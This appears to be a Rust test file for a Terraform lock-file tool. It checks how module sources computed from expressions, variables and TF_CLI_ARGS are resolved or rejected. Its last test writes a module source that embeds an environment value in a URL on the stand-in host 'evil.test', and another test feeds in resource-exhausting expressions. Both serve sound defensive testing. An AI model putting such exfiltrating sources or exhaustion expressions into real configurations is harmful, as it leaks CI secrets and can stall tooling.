//! Sources of modules that are expressions: variables, their defaults, and functions.

use crate::lock::requires;
use provlock_test::TestEnvironment;
use provlock_test::registry::Registry;

/// Locks and verifies a root module that calls the module `b`, and never `a`, although a value that
/// is computed wrongly may say so.
#[track_caller]
fn assert_calls_b(main: &str) {
    let (registry, environment) = Registry::with_project();
    let right = registry
        .publish("hashicorp/null", "3.2.4")
        .platforms(["linux_amd64"])
        .done();
    registry
        .publish("acme/wrong", "1.0.0")
        .platforms(["linux_amd64"])
        .done();
    environment.write("main.tf", main);
    environment.write("m/a/main.tf", requires("acme/wrong", ""));
    environment.write("m/b/main.tf", requires("hashicorp/null", ""));
    environment
        .provlock(["lock", "-p", "linux_amd64"])
        .assert_code(0);
    assert_eq!(
        environment.lock_file(),
        right.lock_file("", &["linux_amd64"]),
        "{main}"
    );
    environment
        .provlock(["verify", "--allow", "single-platform"])
        .assert_code(0);
}

/// Does not lock a root module that calls a module whose source is not known.
#[track_caller]
fn assert_not_known(main: &str) {
    let environment = TestEnvironment::new();
    environment.write("main.tf", main);
    environment.write("m/a/main.tf", requires("acme/wrong", ""));
    environment.write("m/b/main.tf", requires("hashicorp/null", ""));
    let output = environment.provlock(["lock", "--offline"]);
    output
        .assert_code(2)
        .assert_stderr_has("the source of module \"m\" is not known");
    assert!(
        !environment.project().join(".terraform.lock.hcl").exists(),
        "{main}"
    );
}

#[test]
fn a_value_of_exactly_the_declared_type_chooses_the_module() {
    let main = |kind: &str, default: &str| {
        format!(
            "variable \"n\" {{\n  type    = {kind}\n  default = {default}\n}}\n\
             module \"m\" {{\n  source = \"./m/${{try(var.n.kind, \"a\")}}\"\n}}\n"
        )
    };
    assert_calls_b(&main("object({ kind = string })", "{ kind = \"b\" }"));
    // Terraform adds the default of the attribute, and calls `b`.
    assert_not_known(&main("object({ kind = optional(string, \"b\") })", "{}"));
}

#[test]
fn values_have_the_types_of_the_language() {
    for expression in [
        "(true ? 1 : \"a\") == \"1\" ? \"b\" : \"a\"",
        "try(\"./x${null}\", \"b\")",
        "try([{}.a], \"b\")",
    ] {
        assert_calls_b(&format!(
            "module \"m\" {{\n  source = \"./m/${{{expression}}}\"\n}}\n"
        ));
    }
}

/// Terraform calls `b` in each case. Without its types, sets, numbers and regular expressions
/// nothing may be called.
#[test]
fn a_value_that_depends_on_more_than_is_computed_is_not_known() {
    for expression in [
        "tolist([\"a\"]) == [\"a\"] ? \"a\" : \"b\"",
        "range(0) == [] ? \"a\" : \"b\"",
        "18446744073709551615 + 1 == 18446744073709551616 ? \"b\" : \"a\"",
        "\"${0.1 + 0.2}!\" == \"0.3!\" ? \"b\" : \"a\"",
        "concat(tolist([1]), tolist([\"b\"]))[0] == \"1\" ? \"b\" : \"a\"",
        "regex(\"\\\\w$\", \"a-b\")",
        "[for k, v in toset([\"b\"]) : k][0]",
        "try(toset([\"a\"])[0], \"b\")",
    ] {
        assert_not_known(&format!(
            "module \"m\" {{\n  source = \"./m/${{{expression}}}\"\n}}\n"
        ));
    }
}

#[test]
fn a_hostile_expression_is_given_up() {
    let environment = TestEnvironment::new();
    let text = "a".repeat(100_000);
    for expression in [
        "1 % 0".to_owned(),
        "join(\"\", [for i in range(1000) : replace(local.text, \"a\", \"aa\")])".to_owned(),
        "contains([for i in range(1000) : local.text], \"${local.text}b\") ? \"a\" : \"b\""
            .to_owned(),
        "[for i in range(1000) : [for j in range(1000) : \"${i}${j}\"]][0][0]".to_owned(),
        "distinct([for i in range(1000) : \"${local.text}${i}\"])[0]".to_owned(),
        format!(
            "[{}][0]",
            "[for i in range(1000) : range(1000)], ".repeat(50)
        ),
    ] {
        let main = format!(
            "locals {{\n  text = \"{text}\"\n}}\nmodule \"m\" {{\n  source = \"./m/${{{expression}}}\"\n}}\n"
        );
        environment.write("main.tf", main);
        let output = environment.provlock(["lock", "--offline"]);
        output.assert_code(2);
        assert!(
            output
                .stderr
                .contains("the source of module \"m\" is not known"),
            "{output}"
        );
    }
}

#[test]
fn the_later_of_the_flags_for_variables_wins() {
    let file = ["--var-file", "b.tfvars"];
    let value = ["--var", "kind=a"];
    for (flags, expected) in [
        ([value, file].concat(), "hashicorp/b"),
        ([file, value].concat(), "hashicorp/a"),
    ] {
        let environment = provlock_test::TestEnvironment::new();
        let call = format!(
            "module \"m\" {{\n  source = \"./{}{{var.kind}}\"\n}}\n",
            "$"
        );
        environment.write("main.tf", format!("variable \"kind\" {{}}\n{call}"));
        environment.write("a/main.tf", "provider \"a\" {}\n");
        environment.write("b/main.tf", "provider \"b\" {}\n");
        environment.write("b.tfvars", "kind = \"b\"\n");

        let text = environment
            .provlock([&["tree", "--dialect", "tofu"][..], &flags].concat())
            .to_string();

        assert!(text.contains(expected), "{flags:?}: {text}");
    }
}

/// A root module that calls `a` by default, or what the variable `d` contains.
fn chosen_by_variable() -> (Registry, TestEnvironment) {
    let (registry, environment) = Registry::with_project();
    for provider in ["acme/wrong", "hashicorp/null"] {
        registry
            .publish(provider, "1.0.0")
            .platforms(["linux_amd64"])
            .done();
    }
    let main = "variable \"d\" {\n  default = \"./m/a\"\n}\nmodule \"m\" {\n  source = var.d\n}\n";
    environment.write("main.tf", main);
    environment.write("m/a/main.tf", requires("acme/wrong", ""));
    environment.write("m/b/main.tf", requires("hashicorp/null", ""));
    environment.write("env/b.tfvars", "d = \"./m/b\"\n");
    environment.write("env/a.tfvars", "d = \"./m/a\"\n");
    (registry, environment)
}

/// `init` gets these arguments in front of the arguments on its command line.
#[test]
fn arguments_of_init_in_the_environment_choose_the_module() {
    let (_registry, environment) = chosen_by_variable();
    let cases = [
        ("TF_CLI_ARGS", "-var=d=./m/b", true),
        ("TF_CLI_ARGS_init", "-var=d=./m/b", true),
        ("TF_CLI_ARGS", "-no-color -var d=./m/b", true),
        ("TF_CLI_ARGS", "--var 'd=./m/b' -input=false", true),
        ("TF_CLI_ARGS", "-var=d=./m/a -var=\"d=./m/b\"", true),
        ("TF_CLI_ARGS", "-var-file=env/b.tfvars", true),
        ("TF_CLI_ARGS", "-var-file env/b.tfvars", true),
        ("TF_CLI_ARGS", "-var=d=./m/b -var-file=env/a.tfvars", false),
        ("TF_CLI_ARGS_plan", "-var=d=./m/b", false),
        ("TF_CLI_ARGS", "-backend-config=d=./m/b", false),
        ("TF_CLI_ARGS", "", false),
    ];
    for (variable, arguments, is_b) in cases {
        environment.write_lock_file("");
        let lock = environment.command(["lock", "--prune", "-p", "linux_amd64"]);
        lock.env(variable, arguments).run().assert_code(0);
        let locks_b = environment.lock_file().contains("hashicorp/null");
        assert_eq!(locks_b, is_b, "{variable}={arguments}");
        let verify = environment.command(["verify", "--allow", "single-platform"]);
        verify.env(variable, arguments).run().assert_code(0);
    }

    // The command line wins, and a file is relative to the root module.
    environment.write_lock_file("");
    let lock = ["lock", "-p", "linux_amd64", "--var", "d=./m/a"];
    let lock = environment.command(lock).env("TF_CLI_ARGS", "-var=d=./m/b");
    lock.run().assert_code(0);
    assert!(environment.lock_file().contains("acme/wrong"));
    environment.write_lock_file("");
    let project = environment.project();
    let lock = ["lock", "-p", "linux_amd64", project.to_str().unwrap()];
    let lock = environment.command(lock).run_in("env");
    let lock = lock.env("TF_CLI_ARGS", "-var-file=env/b.tfvars");
    lock.run().assert_code(0);
    assert!(environment.lock_file().contains("hashicorp/null"));
}

#[test]
fn arguments_in_the_environment_that_cannot_be_read_are_an_error() {
    let (_registry, environment) = chosen_by_variable();
    let lock = environment
        .command(["lock"])
        .env("TF_CLI_ARGS", "-var='d=./m/b");
    lock.run()
        .assert_code(2)
        .assert_stderr_has("TF_CLI_ARGS cannot be split into words: a quote has no end");
    let lock = environment
        .command(["lock"])
        .env("TF_CLI_ARGS", "-var-file=none.tfvars");
    lock.run().assert_code(2).assert_stderr_has("none.tfvars");
}

/// A pull request must not send a value of CI's environment to a host.
#[test]
fn a_value_of_an_argument_in_the_environment_is_not_sent() {
    let environment = TestEnvironment::new();
    let main =
        "variable \"d\" {}\nmodule \"m\" {\n  source = \"https://evil.test/${var.d}.zip\"\n}\n";
    environment.write("main.tf", main);
    let lock = environment
        .command(["lock"])
        .env("TF_CLI_ARGS", "-var=d=hunter2");
    let output = lock.run();
    output.assert_code(2).assert_lacks("hunter2");
    output.assert_stderr_has("is set by the environment, which is not sent to other hosts");
}
